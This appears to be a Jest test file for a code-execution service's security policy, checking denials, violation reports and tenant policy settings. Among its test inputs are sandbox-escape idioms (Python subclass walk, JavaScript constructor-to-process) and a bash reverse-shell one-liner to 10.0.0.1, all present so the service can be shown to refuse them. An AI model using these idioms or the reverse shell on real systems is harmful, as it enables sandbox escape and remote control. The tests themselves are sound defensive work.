import { afterAll, beforeAll, expect, test } from '@jest/globals';
import type { CordonClient, SubmitBody } from '../../scripts/cordon-client.ts';
import { type ServiceFixture, startServiceFixture } from '../support/service-fixture.ts';

let fixture: ServiceFixture;
let client: CordonClient;

beforeAll(async () => {
  fixture = await startServiceFixture();
  client = fixture.clientOf(await fixture.createKey('acme'));
}, 60_000);

afterAll(() => fixture.end(), 60_000);

const walk = 'x = 1\nprint(().__class__.__base__.__subclasses__())';

test('a hostile idiom is denied with its rule, place and what to change, and costs nothing', async () => {
  const answer = await client.submit({ language: 'python', source: walk });

  expect(answer).toMatchObject({
    status: 422,
    problem: {
      code: 'policy_denied',
      violations: expect.arrayContaining([
        {
          rule: expect.stringMatching(/^py-/),
          severity: 'high',
          message: expect.any(String),
          hint: expect.stringContaining('policy standard'),
          line: 2,
          column: expect.any(Number),
          snippet: walk.split('\n')[1],
        },
      ]),
    },
  });
  expect(await client.getQuota()).toMatchObject({ body: { executionsUsed: 0, concurrentUsed: 0 } });
  expect(await client.list()).toMatchObject({ body: { items: [] } });
});

test.each<SubmitBody>([
  { language: 'javascript', source: '[].constructor.constructor("return process")()' },
  { language: 'typescript', source: 'const f: any = [].constructor.constructor("return process")();' },
  { language: 'bash', source: 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1' },
  {
    language: 'python',
    source: 'import helper',
    files: [{ path: 'helper.py', content: walk, encoding: 'utf8' }],
  },
])('$language: what is hostile is denied before any backend is looked for', async (body) => {
  expect(await client.submit(body)).toMatchObject({ status: 422, problem: { code: 'policy_denied' } });
});

test('what is suspicious runs, and is recorded on the execution', async () => {
  const answer = await client.submit(
    { language: 'python', source: 'import os\nprint(eval("1 + 1"), os.getcwd() != "")' },
    { waitSeconds: 25 },
  );

  expect(answer).toMatchObject({
    status: 200,
    body: {
      stdout: '2 True\n',
      policyVersion: 0,
      violations: expect.arrayContaining([expect.objectContaining({ line: 2, snippet: expect.any(String) })]),
    },
  });
});

test('a program that computes is free of violations, also under the strict policy', async () => {
  const source = 'import math\nprint(math.factorial(5))';
  for (const policy of ['standard', 'strict'] as const) {
    const answer = await client.submit({ language: 'python', source, policy }, { waitSeconds: 25 });
    expect(answer).toMatchObject({ status: 200, body: { stdout: '120\n', violations: [] } });
  }
});

test('a request may ask for the strict policy, and a strict tenant can not ask for another', async () => {
  const source = 'import os\nprint(os.getcwd())';
  const denied = { status: 422, problem: { code: 'policy_denied', violations: [{ line: 1 }] } };
  expect(await client.submit({ language: 'python', source, policy: 'strict' })).toMatchObject(denied);

  const strict = fixture.clientOf(await fixture.createKey('careful'));
  await fixture.admin.putPolicy('careful', { profile: 'strict' });
  expect(await strict.submit({ language: 'python', source, policy: 'standard' })).toMatchObject(denied);
});

test('modules that the tenant allows or denies count for more than the profile', async () => {
  const tenant = fixture.clientOf(await fixture.createKey('picky'));
  await fixture.admin.putPolicy('picky', {
    profile: 'strict',
    allowModules: ['os'],
    denyModules: ['random'],
  });

  const submit = (source: string) => tenant.submit({ language: 'python', source });
  expect(await submit('import os\nprint(os.sep)')).toMatchObject({ ok: true });
  expect(await submit('import random')).toMatchObject({
    status: 422,
    problem: { violations: [{ rule: 'denied-module', hint: expect.stringContaining('Do without random') }] },
  });
});
